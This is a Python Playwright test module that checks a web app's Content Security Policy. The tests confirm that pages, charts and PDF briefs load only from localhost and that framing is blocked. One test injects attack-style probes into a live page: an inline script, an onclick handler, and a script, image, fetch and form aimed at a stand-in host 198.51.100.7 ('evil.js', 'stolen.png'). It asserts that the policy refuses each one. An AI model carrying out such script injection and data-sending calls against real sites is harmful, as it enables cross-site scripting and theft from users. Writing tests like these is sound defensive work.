"""What the door's headers let a real browser do: all of the product, and nothing else."""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, CDPSession, ConsoleMessage, Page, expect
from werkzeug.serving import make_server

from app import create_app
from kms.config import Settings
from kms.library.entries import load_entries
from kms.store.engine import Store
from layouts.routing import discover
from tests.browser.test_pages_in_chromium import DESK, PHONE, WAIT
from tests.published import DAVAO, published, published_home

__all__ = ["published", "published_home"]

pytestmark = pytest.mark.browser

EXAMPLES = {"area": DAVAO, "entry": min(load_entries())}
ADDRESSES = sorted(
    re.sub(r"<(\w+)>", lambda place: EXAMPLES.get(place[1], "x"), page.path) for page in discover()
)
FAILING = ("/nowhere", "/?as_of=x", "/briefs/x/x/latest.pdf", "/assets/none.css")
BRIEF = f"/briefs/{DAVAO}/I/latest.pdf"
# Who looks: a label, and the cookies with which the browser starts, as Playwright writes them.
VISITORS: tuple[tuple[str, tuple[dict[str, str], ...]], ...] = (("nobody", ()),)
LISTEN = """
window.refused = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.refused.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""


@dataclass
class Watched:
    """A tab and all that tells of something refused or fetched elsewhere."""

    page: Page
    site: str
    said: list[str] = field(default_factory=list)
    issues: list[str] = field(default_factory=list)
    hosts: set[str] = field(default_factory=set)

    def open(self, address: str) -> None:
        """Open an address and wait until it has drawn what it has."""
        self.page.goto(self.site + address)
        expect(self.page.locator("h1").first).to_be_visible(timeout=WAIT)
        if self.page.locator("#react-entry-point").count():
            self.page.wait_for_selector("#react-entry-point h1", timeout=WAIT)
            expect(self.page.locator("#ssr")).to_have_count(0)
        for graph in self.page.locator(".dash-graph").all():
            expect(graph.locator(".main-svg").first).to_be_visible(timeout=WAIT)

    def refused(self) -> list[str]:
        """Everything the browser did not do because of the policy, by each way it tells."""
        told: list[str] = self.page.evaluate("window.refused")
        return told + self.issues + [text for text in self.said if "Content Security" in text]

    def wait_for_refusals(self, least: int) -> None:
        """Wait until the page has heard of so many; the policy bars polling in the page itself."""
        end = time.monotonic() + WAIT / 1000
        while self.page.evaluate("window.refused.length") < least and time.monotonic() < end:
            self.page.wait_for_timeout(50)


def watch(page: Page, site: str) -> Watched:
    tab = Watched(page, site)

    def hear(message: ConsoleMessage) -> None:
        if message.type in {"error", "warning"}:
            tab.said.append(message.text)

    def issue(event: dict[str, Any]) -> None:
        if event["issue"]["code"] == "ContentSecurityPolicyIssue":
            tab.issues.append(str(event["issue"]["details"]))

    audits: CDPSession = page.context.new_cdp_session(page)
    audits.on("Audits.issueAdded", issue)
    audits.send("Audits.enable")
    page.add_init_script(LISTEN)
    page.on("console", hear)
    page.on("pageerror", lambda error: tab.said.append(str(error)))
    page.on("request", lambda asked: tab.hosts.add(urlsplit(asked.url).hostname or ""))
    return tab


@pytest.fixture(scope="module")
def address(published: Store, published_home: Path) -> Iterator[str]:
    """Serve the product."""
    server = create_app(Settings(home=published_home))
    listening = make_server("127.0.0.1", 0, server, threaded=True)
    thread = threading.Thread(target=listening.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{listening.server_port}"
    listening.shutdown()
    thread.join()
    listening.server_close()


@pytest.fixture(params=VISITORS, ids=lambda visitor: visitor[0])
def tab(browser: Browser, address: str, request: pytest.FixtureRequest) -> Iterator[Watched]:
    """Give a tab of one visitor."""
    context = browser.new_context()
    cookies: list[Any] = [{**cookie, "url": address} for cookie in request.param[1]]
    context.add_cookies(cookies)
    yield watch(context.new_page(), address)
    context.close()


@pytest.mark.parametrize("size", [DESK, PHONE], ids=["desk", "phone"])
@pytest.mark.parametrize("path", ADDRESSES)
def test_every_page_keeps_to_the_policy(tab: Watched, path: str, size: tuple[int, int]) -> None:
    tab.page.set_viewport_size({"width": size[0], "height": size[1]})
    tab.open(path)
    assert tab.refused() == []
    assert tab.said == []
    assert tab.hosts - {""} == {"127.0.0.1"}


@pytest.mark.parametrize("path", FAILING)
def test_pages_of_refusal_keep_to_it_too(tab: Watched, path: str) -> None:
    tab.open(path)
    assert tab.refused() == []
    assert all(text.startswith("Failed to load resource") for text in tab.said)
    assert tab.hosts - {""} == {"127.0.0.1"}


def test_charts_are_drawn_and_can_be_saved_as_a_picture(tab: Watched) -> None:
    tab.open(f"/areas/{DAVAO}")
    drawn = tab.page.locator(".js-plotly-plot .main-svg .trace path, .js-plotly-plot .bars path")
    assert drawn.count() > 0
    picture = tab.page.evaluate(
        "Plotly.toImage(document.querySelector('.js-plotly-plot'), {format: 'png'})"
    )
    assert picture.startswith("data:image/png;base64,")
    assert len(picture) > 5_000
    assert tab.refused() == []


def test_what_the_policy_forbids_is_seen_to_be_refused(tab: Watched) -> None:
    tab.open("/library")
    tab.page.evaluate("""() => {
        const script = document.createElement("script");
        script.textContent = "window.ran = true";
        document.body.append(script);
        const picture = document.createElement("img");
        picture.src = "http://198.51.100.7/stolen.png";
        document.body.append(picture);
        const other = document.createElement("script");
        other.src = "http://198.51.100.7/evil.js";
        document.body.append(other);
        document.body.insertAdjacentHTML("beforeend", "<button onclick='window.ran = true'>");
        document.querySelector("button[onclick]").click();
        fetch("http://198.51.100.7/data").catch(() => 0);
        const form = document.createElement("form");
        form.action = "http://198.51.100.7/form";
        document.body.append(form);
        form.submit();
    }""")
    tab.wait_for_refusals(6)
    assert tab.page.evaluate("window.ran") is None
    assert {told.split(" ")[0] for told in tab.page.evaluate("window.refused")} == {
        "script-src-elem", "script-src-attr", "img-src", "connect-src", "form-action",
    }  # fmt: skip
    assert tab.issues != []
    assert any("Content Security" in text for text in tab.said)


def test_no_other_page_may_hold_ours_in_a_frame(tab: Watched) -> None:
    tab.page.route("**/frame", lambda route: route.fulfill(
        body=f"<iframe src='{tab.site}/library'></iframe>", content_type="text/html"
    ))  # fmt: skip
    tab.page.goto(tab.site + "/frame")
    tab.page.wait_for_timeout(1_000)
    assert [frame.url for frame in tab.page.frames[1:]] == ["chrome-error://chromewebdata/"]


def test_a_brief_is_shown_by_the_browser_itself(tab: Watched) -> None:
    with tab.page.expect_response(tab.site + BRIEF) as told:
        tab.page.goto(tab.site + BRIEF)
    assert told.value.status == 200
    tab.page.wait_for_timeout(2_000)
    viewer, *rest = [frame.url for frame in tab.page.frames[1:]]
    assert viewer.startswith("chrome-extension://")
    assert rest == [tab.site + BRIEF]
    assert not any("Content Security" in text for text in tab.said)
